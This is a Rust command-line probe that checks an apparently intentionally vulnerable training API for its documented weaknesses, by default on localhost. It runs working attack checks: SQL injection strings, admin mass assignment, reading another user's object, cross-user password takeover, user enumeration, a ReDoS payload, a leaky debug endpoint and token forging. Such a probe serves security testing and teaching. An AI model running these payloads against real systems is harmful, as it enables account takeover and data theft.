use std::fmt;
use std::time::{Duration, Instant};

use anyhow::{anyhow, bail, Context};
use reqwest::{Response, StatusCode};
use vulnapi::auth_token::{now_secs, TokenService};
use vulnapi_protocol::{
    LoginRequest, LoginResponse, NewBookRequest, RegisterRequest, ServiceInfo,
    UpdatePasswordRequest, UserSummary, UsersResponse,
};

const PROBE_PASSWORD: &str = "probe-pass";

#[derive(Debug, Clone)]
struct ProbeConfig {
    base_url: String,
    timeout_ms: u64,
    redos_length: usize,
    burst: usize,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Verdict {
    Exposed,
    Mitigated,
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Verdict::Exposed => f.write_str("EXPOSED"),
            Verdict::Mitigated => f.write_str("MITIGATED"),
        }
    }
}

struct Finding {
    check: &'static str,
    verdict: Verdict,
    detail: String,
}

impl Finding {
    fn new(check: &'static str, exposed: bool, detail: impl Into<String>) -> Self {
        Self {
            check,
            verdict: if exposed {
                Verdict::Exposed
            } else {
                Verdict::Mitigated
            },
            detail: detail.into(),
        }
    }
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let cfg = parse_args()?;
    let probe = Probe::new(&cfg)?;

    println!("[probe] target: {}", probe.base);
    let info: ServiceInfo = probe
        .client
        .get(probe.url("/"))
        .send()
        .await
        .context("target is not reachable")?
        .json()
        .await
        .context("failed to decode service banner")?;
    println!(
        "[probe] server reports vulnerable={} version={}",
        info.vulnerable, info.version
    );

    let findings = vec![
        probe.check_injection().await?,
        probe.check_mass_assignment().await?,
        probe.check_bola().await?,
        probe.check_password_change().await?,
        probe.check_enumeration().await?,
        probe.check_redos(cfg.redos_length).await?,
        probe.check_debug_exposure().await?,
        probe.check_weak_secret().await?,
        probe.check_rate_limit(cfg.burst).await?,
    ];

    for finding in &findings {
        println!(
            "[probe] {:<22} {:<9} {}",
            finding.check, finding.verdict, finding.detail
        );
    }

    let exposed = findings
        .iter()
        .filter(|f| f.verdict == Verdict::Exposed)
        .count();
    println!("[probe] {} of {} checks exposed", exposed, findings.len());
    Ok(())
}

struct Probe {
    client: reqwest::Client,
    base: String,
    run_id: String,
}

impl Probe {
    fn new(cfg: &ProbeConfig) -> anyhow::Result<Self> {
        let client = reqwest::Client::builder()
            .timeout(Duration::from_millis(cfg.timeout_ms))
            .build()
            .context("failed to build HTTP client")?;

        let run_id = uuid::Uuid::new_v4().simple().to_string()[..8].to_string();

        Ok(Self {
            client,
            base: cfg.base_url.trim_end_matches('/').to_string(),
            run_id,
        })
    }

    fn url(&self, path: &str) -> String {
        format!("{}{}", self.base, path)
    }

    fn username(&self, label: &str) -> String {
        format!("probe-{}-{}", label, self.run_id)
    }

    async fn register(
        &self,
        username: &str,
        email: &str,
        admin: Option<bool>,
    ) -> anyhow::Result<Response> {
        let body = RegisterRequest {
            username: username.to_string(),
            password: PROBE_PASSWORD.to_string(),
            email: email.to_string(),
            admin,
        };
        self.client
            .post(self.url("/users/v1/register"))
            .json(&body)
            .send()
            .await
            .context("network failure calling /users/v1/register")
    }

    async fn login(&self, username: &str, password: &str) -> anyhow::Result<Response> {
        let body = LoginRequest {
            username: username.to_string(),
            password: password.to_string(),
        };
        self.client
            .post(self.url("/users/v1/login"))
            .json(&body)
            .send()
            .await
            .context("network failure calling /users/v1/login")
    }

    async fn token(&self, username: &str) -> anyhow::Result<String> {
        let response = self.login(username, PROBE_PASSWORD).await?;
        if response.status() != StatusCode::OK {
            let status = response.status();
            let body = response.text().await.unwrap_or_default();
            bail!("login as {} failed with status {}: {}", username, status, body);
        }
        let login: LoginResponse = response
            .json()
            .await
            .context("failed to decode login response")?;
        Ok(login.auth_token)
    }

    /// Registers a throwaway account and logs it in.
    async fn account(&self, label: &str, admin: Option<bool>) -> anyhow::Result<(String, String)> {
        let username = self.username(label);
        let response = self
            .register(&username, &format!("{username}@probe.io"), admin)
            .await?;
        if !response.status().is_success() {
            let status = response.status();
            let body = response.text().await.unwrap_or_default();
            bail!("registration of {} failed with status {}: {}", username, status, body);
        }
        let token = self.token(&username).await?;
        Ok((username, token))
    }

    async fn message_of(response: Response) -> String {
        response
            .json::<serde_json::Value>()
            .await
            .ok()
            .and_then(|body| body["message"].as_str().map(str::to_string))
            .unwrap_or_default()
    }

    async fn check_injection(&self) -> anyhow::Result<Finding> {
        let (victim, _) = self.account("sqli", None).await?;
        let payload = format!("nobody' OR username = '{victim}");
        let lookup = self
            .client
            .get(self.url(&format!(
                "/users/v1/{}",
                urlencoding::encode(&payload)
            )))
            .send()
            .await?;
        let lookup_hit = lookup.status() == StatusCode::OK;

        let login_hit = self.login("' OR 1=1 --", "anything").await?.status() == StatusCode::OK;

        Ok(Finding::new(
            "sql-injection",
            lookup_hit || login_hit,
            format!("lookup payload: {lookup_hit}, login payload: {login_hit}"),
        ))
    }

    async fn check_mass_assignment(&self) -> anyhow::Result<Finding> {
        let (username, token) = self.account("admin", Some(true)).await?;
        let me: serde_json::Value = self
            .client
            .get(self.url("/me"))
            .bearer_auth(&token)
            .send()
            .await?
            .json()
            .await?;
        let admin = me["data"]["admin"].as_bool().unwrap_or(false);

        Ok(Finding::new(
            "mass-assignment",
            admin,
            format!("{username} registered with admin=true, stored admin={admin}"),
        ))
    }

    async fn check_bola(&self) -> anyhow::Result<Finding> {
        let (_, owner_token) = self.account("owner", None).await?;
        let (_, reader_token) = self.account("reader", None).await?;
        let title = format!("probe-book-{}", self.run_id);

        let created = self
            .client
            .post(self.url("/books/v1"))
            .bearer_auth(&owner_token)
            .json(&NewBookRequest {
                book_title: title.clone(),
                secret: "probe secret".to_string(),
            })
            .send()
            .await?;
        if !created.status().is_success() {
            bail!("could not create probe book: {}", created.status());
        }

        let read = self
            .client
            .get(self.url(&format!("/books/v1/{}", urlencoding::encode(&title))))
            .bearer_auth(&reader_token)
            .send()
            .await?;
        let status = read.status();

        Ok(Finding::new(
            "book-ownership",
            status == StatusCode::OK,
            format!("foreign book read returned {status}"),
        ))
    }

    async fn check_password_change(&self) -> anyhow::Result<Finding> {
        let (_, attacker_token) = self.account("attacker", None).await?;
        let (victim, _) = self.account("victim", None).await?;

        let response = self
            .client
            .put(self.url(&format!("/users/v1/{victim}/password")))
            .bearer_auth(&attacker_token)
            .json(&UpdatePasswordRequest {
                password: "taken-over".to_string(),
            })
            .send()
            .await?;
        let status = response.status();

        Ok(Finding::new(
            "password-takeover",
            status.is_success(),
            format!("cross-user password change returned {status}"),
        ))
    }

    async fn check_enumeration(&self) -> anyhow::Result<Finding> {
        let (known, _) = self.account("enum", None).await?;
        let unknown = Self::message_of(self.login(&self.username("ghost"), "x").await?).await;
        let wrong = Self::message_of(self.login(&known, "wrong-password").await?).await;

        Ok(Finding::new(
            "user-enumeration",
            unknown != wrong,
            format!("unknown: {unknown:?}, wrong password: {wrong:?}"),
        ))
    }

    async fn check_redos(&self, length: usize) -> anyhow::Result<Finding> {
        let timed = |label: &'static str, email: String| async move {
            let started = Instant::now();
            self.register(&self.username(label), &email, None).await?;
            anyhow::Ok(started.elapsed())
        };

        let baseline = timed("redos-base", format!("{}!", "a".repeat(8))).await?;
        let adversarial = timed("redos", format!("{}!", "a".repeat(length))).await?;
        let threshold = (baseline * 20).max(Duration::from_millis(250));

        Ok(Finding::new(
            "email-redos",
            adversarial > threshold,
            format!("baseline {baseline:?}, {length}-char payload {adversarial:?}"),
        ))
    }

    async fn check_debug_exposure(&self) -> anyhow::Result<Finding> {
        let response = self.client.get(self.url("/users/v1/_debug")).send().await?;
        let status = response.status();
        let body: serde_json::Value = response.json().await.unwrap_or_default();
        let leaked = body["users"]
            .as_array()
            .is_some_and(|users| users.iter().any(|u| u.get("password").is_some()));

        Ok(Finding::new(
            "debug-listing",
            status == StatusCode::OK && leaked,
            format!("unauthenticated debug listing returned {status}"),
        ))
    }

    async fn check_weak_secret(&self) -> anyhow::Result<Finding> {
        let users: UsersResponse<UserSummary> = self
            .client
            .get(self.url("/users/v1"))
            .send()
            .await?
            .json()
            .await
            .context("failed to decode user listing")?;
        let subject = users
            .users
            .first()
            .map(|user| user.username.clone())
            .ok_or_else(|| anyhow!("user listing is empty"))?;

        let forged = TokenService::new(Duration::from_secs(300))
            .issue(&subject, now_secs())
            .map_err(|err| anyhow!("failed to forge token: {err}"))?;
        let status = self
            .client
            .get(self.url("/me"))
            .bearer_auth(forged)
            .send()
            .await?
            .status();

        Ok(Finding::new(
            "forged-token",
            status == StatusCode::OK,
            format!("token forged for {subject} returned {status}"),
        ))
    }

    async fn check_rate_limit(&self, burst: usize) -> anyhow::Result<Finding> {
        let target = self.username("burst");
        let mut throttled = 0;
        for _ in 0..burst {
            let status = self.login(&target, "wrong").await?.status();
            if status == StatusCode::TOO_MANY_REQUESTS {
                throttled += 1;
            }
        }

        Ok(Finding::new(
            "rate-limiting",
            throttled == 0,
            format!("{throttled} of {burst} failed logins throttled"),
        ))
    }
}

fn parse_args() -> anyhow::Result<ProbeConfig> {
    let mut cfg = ProbeConfig {
        base_url: "http://127.0.0.1:5000".to_string(),
        timeout_ms: 60_000,
        redos_length: 24,
        burst: 30,
    };

    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--base-url" => cfg.base_url = next_arg_value(&mut args, &arg)?,
            "--timeout-ms" => cfg.timeout_ms = parse_value(&mut args, &arg)?,
            "--redos-length" => cfg.redos_length = parse_value(&mut args, &arg)?,
            "--burst" => cfg.burst = parse_value(&mut args, &arg)?,
            "--help" | "-h" => {
                print_help();
                std::process::exit(0);
            }
            other => {
                bail!("unknown argument: {}\nUse --help to list the options.", other);
            }
        }
    }

    Ok(cfg)
}

fn next_arg_value<I>(args: &mut I, flag: &str) -> anyhow::Result<String>
where
    I: Iterator<Item = String>,
{
    args.next()
        .ok_or_else(|| anyhow!("missing value for {}", flag))
}

fn parse_value<I, T>(args: &mut I, flag: &str) -> anyhow::Result<T>
where
    I: Iterator<Item = String>,
    T: std::str::FromStr,
{
    let value = next_arg_value(args, flag)?;
    value
        .parse()
        .map_err(|_| anyhow!("invalid value for {}: {}", flag, value))
}

fn print_help() {
    println!(
        "vulnapi-probe: checks a running vulnapi server for each documented weakness

Usage: vulnapi-probe [options]

Options:
  --base-url <url>        server base URL (default http://127.0.0.1:5000)
  --timeout-ms <ms>       per-request timeout (default 60000)
  --redos-length <n>      length of the adversarial email local part (default 24)
  --burst <n>             failed logins sent for the rate limit check (default 30)
  -h, --help              show this help"
    );
}
